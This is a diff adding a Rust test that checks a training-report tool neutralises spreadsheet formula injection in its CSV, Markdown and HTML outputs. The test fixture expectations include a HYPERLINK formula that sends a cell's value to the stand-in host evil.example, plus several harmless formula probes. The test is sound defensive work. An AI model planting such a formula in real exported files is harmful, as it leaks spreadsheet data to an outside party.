@@ -303,6 +303,63 @@ fn report_counts_distinct_passes_per_module_and_unit() {
     assert!(html.contains("<th scope=\"row\">M-1 Grundkurs</th><td>1.0</td><td>2</td>"));
 }
 
+/// Units and versions from the export that a spreadsheet would run as
+/// formulas reach the CSV and Markdown reports as text (OWASP: a leading
+/// `'`); the HTML report escapes them.
+#[test]
+fn report_writes_no_formulas() {
+    let s = site();
+    let export = fixtures().join("training/report/formulas.csv");
+    let o = report(s.path(), &export, "csv");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let csv = stdout(&o);
+    for cell in [
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
+        ",'+1+1,",
+        ",'@SUM(1),",
+        ",'-2+3,",
+        // Leading white space (a tab, a CR) is trimmed when read: what
+        // follows is defused.
+        ",'=1+2,",
+        ",'@X,",
+    ] {
+        assert!(csv.contains(cell), "{cell:?} in {csv}");
+    }
+    // No field of any record starts with a formula character.
+    for record in csv.lines() {
+        for field in record.split(',') {
+            let field = field.trim_start_matches('"');
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t']),
+                "{field:?} in {record:?}"
+            );
+        }
+    }
+    let md = stdout(&report(s.path(), &export, "md"));
+    for cell in [
+        "| '+1+1 |",
+        "| '@SUM(1) |",
+        "| '-2+3 |",
+        "| '=1+2 |",
+        "| '@X |",
+    ] {
+        assert!(md.contains(cell), "{cell:?} in {md}");
+    }
+    assert!(
+        md.contains("| '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") |"),
+        "{md}"
+    );
+    assert!(
+        !md.contains("| =") && !md.contains("| +") && !md.contains("| @"),
+        "{md}"
+    );
+    let html = stdout(&report(s.path(), &export, "html"));
+    assert!(
+        html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)"),
+        "{html}"
+    );
+}
+
 #[test]
 fn report_exit_codes() {
     let s = site();
